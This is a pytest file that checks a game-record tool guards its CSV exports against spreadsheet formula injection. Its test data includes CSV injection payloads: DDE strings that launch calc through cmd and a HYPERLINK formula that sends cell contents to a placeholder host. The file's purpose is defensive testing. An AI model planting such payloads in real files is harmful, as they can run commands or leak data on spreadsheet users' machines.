"""CSV cells a spreadsheet would run: a text cell (a player's name, a record's id, a group's key)
starting with ``= + - @``, a tab or a carriage return gets a ``'`` before it and is quoted, in
``convert`` (both tables) and ``summarize --format csv``; numbers (a score of -20) are never
changed; ``--raw-csv`` writes every cell as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

import tricklog as api
from records.formats.convert import ConversionError
from replay.export.cells import FORMULA_STARTS, neutral, row_writer
from tests.conftest import FIXTURES

OH_HELL = FIXTURES / "oh_hell" / "valid" / "slam-small-nil-5-3p.json"
BESTIA = FIXTURES / "bestia" / "valid" / "exact-shares-carried-as-fractions.json"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
]
"""OWASP's examples, and the ones the issue reported."""


def _hostile(path: Path, source: Path, names: list[str], record_id: str) -> Path:
    record: dict[str, Any] = json.loads(source.read_text())
    for player, name in zip(record["players"], names, strict=False):
        player["name"] = name
    record["id"] = record_id
    path.write_text(json.dumps(record))
    return path


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    """Two Oh Hell records whose players and ids are formulas."""
    first = _hostile(tmp_path / "a.json", OH_HELL, PAYLOADS[:3], PAYLOADS[3])
    second = _hostile(tmp_path / "b.json", OH_HELL, PAYLOADS[4:7], PAYLOADS[7])
    joined = tmp_path / "games.jsonl"
    joined.write_text(
        "".join(json.dumps(json.loads(p.read_text())) + "\n" for p in (first, second))
    )
    return joined


def _is_safe(text: str) -> bool:
    return not text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("form", ["hands", "actions"])
def test_convert_neutralises_every_text_cell_that_is_a_formula(
    tricklog, archive: Path, tmp_path: Path, form: str
) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / f"{form}.csv"
    run = tricklog("convert", str(archive), "-o", str(out), "--form", form, "--allow-loss")
    assert run.code == 0, run.err
    rows = _rows(out)
    assert rows
    for row in rows:
        assert all(_is_safe(cell) for cell in row.values()), row
    assert {r["player"] for r in rows} == {"'" + p for p in PAYLOADS[:7] if p != PAYLOADS[3]}
    assert {r["record"] for r in rows} == {"'" + PAYLOADS[3], "'" + PAYLOADS[7]}
    text = out.read_text()
    assert "\"'=cmd|' /C calc'!A0\"" in text  # quoted, as OWASP says
    assert '"\'=1+2"";=1+2"' in text  # a quote inside is doubled: one cell


def test_raw_csv_writes_the_cells_as_they_are(tricklog, archive: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for form in ("hands", "actions"):
        out = tmp_path / f"{form}.csv"
        args = ("convert", str(archive), "-o", str(out), "--form", form, "--allow-loss")
        assert tricklog(*args, "--raw-csv").code == 0
        rows = _rows(out)
        assert {r["player"] for r in rows} == set(PAYLOADS[:7]) - {PAYLOADS[3]}
        assert {r["record"] for r in rows} == {PAYLOADS[3], PAYLOADS[7]}


def test_numbers_stay_numbers(tricklog, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A Bestia player pays money: negative scores and balances (and exact fractions) are
    numbers, never neutralised, beside a neutralised name."""
    path = _hostile(tmp_path / "b.json", BESTIA, ["-Anna", "@Bruno"], "=sitting")
    out = tmp_path / "sheet.csv"
    assert tricklog("convert", str(path), "-o", str(out), "--allow-loss").code == 0
    rows = _rows(out)
    negative = [r["score"] for r in rows if r["score"].startswith("-")]
    assert negative and all(int(value) < 0 for value in negative)
    assert all(r["total"] == "" or r["total"].lstrip("-").replace("/", "").isdigit() for r in rows)
    assert {r["player"] for r in rows} >= {"'-Anna", "'@Bruno"}
    assert "\n" + '"\'=sitting",' in out.read_text()


def test_only_cells_that_start_a_formula_change(tricklog, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every valid fixture, both tables: the same bytes with and without --raw-csv."""
    inputs = [str(p) for p in sorted(FIXTURES.glob("oh_hell/valid/*.json"))]
    for form in ("hands", "actions"):
        made = {}
        for raw in ((), ("--raw-csv",)):
            out = tmp_path / f"{form}{len(raw)}.csv"
            args = ("convert", *inputs, "-o", str(out), "--form", form, "--allow-loss", *raw)
            assert tricklog(*args).code == 0
            made[raw] = out.read_bytes()
        assert made[()] == made[("--raw-csv",)]
        assert made[()].count(b"\r\n") > 100


def test_summarize_csv_neutralises_a_group_key(tricklog, archive: Path) -> None:  # type: ignore[no-untyped-def]
    run = tricklog("summarize", str(archive), "--format", "csv")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert {r["key"] for r in rows} == {"'" + p for p in PAYLOADS[:7] if p != PAYLOADS[3]}
    assert all(_is_safe(cell) for row in rows for cell in row.values())
    raw = tricklog("summarize", str(archive), "--format", "csv", "--raw-csv")
    assert {r["key"] for r in csv.DictReader(io.StringIO(raw.out))} == set(PAYLOADS[:7]) - {
        PAYLOADS[3]
    }


def test_summarize_csv_keeps_a_negative_mean_a_number(tricklog, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = _hostile(tmp_path / "b.json", BESTIA, ["-Anna", "@Bruno"], "=sitting")
    run = tricklog("summarize", str(path), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(run.out)))
    column = "bestia_mean_net_money"
    means = [r[column] for r in rows if r[column].startswith("-")]
    assert means and all(float(m) < 0 for m in means)
    unquoted = (f",{means[0]},", f",{means[0]}\n")  # as written, not as a text cell
    assert f"'{means[0]}" not in run.out and any(cell in run.out for cell in unquoted)


def test_raw_csv_is_a_usage_error_for_other_outputs(
    tricklog, archive: Path, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    run = tricklog("convert", str(archive), "-o", str(tmp_path / "x.jsonl"), "--raw-csv")
    assert (run.code, run.err) == (2, "error: --raw-csv applies to csv output only\n")
    assert not (tmp_path / "x.jsonl").exists()
    run = tricklog("summarize", str(archive), "--raw-csv")
    assert (run.code, run.err) == (2, "error: --raw-csv applies to --format csv only\n")
    with pytest.raises(ConversionError, match="csv output only"):
        api.convert([str(archive)], tmp_path / "y.jsonl", raw_csv=True)


def test_the_library_neutralises_too(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    assert api.convert([str(archive)], out, allow_loss=True).written
    assert all(_is_safe(cell) for row in _rows(out) for cell in row.values())
    assert api.convert([str(archive)], out, allow_loss=True, raw_csv=True).written
    assert PAYLOADS[0] in {r["player"] for r in _rows(out)}


# --- the cell encoder ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*PAYLOADS, "-", "=", "@", "+", "\t", "\r"])
def test_a_formula_reads_back_as_text_with_a_quote_before_it(text: str) -> None:
    line = neutral(text)
    assert line.startswith("\"'")  # quoted, a quote first
    assert next(csv.reader(io.StringIO(line))) == ["'" + text]


@pytest.mark.parametrize(
    "text", ["Anna", "", "a,b", 'say "hi"', "two\nlines", "bid 1; pass", "oh_hell-7-0", "x=1"]
)
def test_other_text_is_written_as_the_csv_module_writes_it(text: str) -> None:
    ours, theirs = io.StringIO(), io.StringIO()
    row = [text, 1, -20, None, 2.5]
    row_writer(ours).writerow(row)
    csv.writer(theirs).writerow(row)
    assert ours.getvalue() == theirs.getvalue()
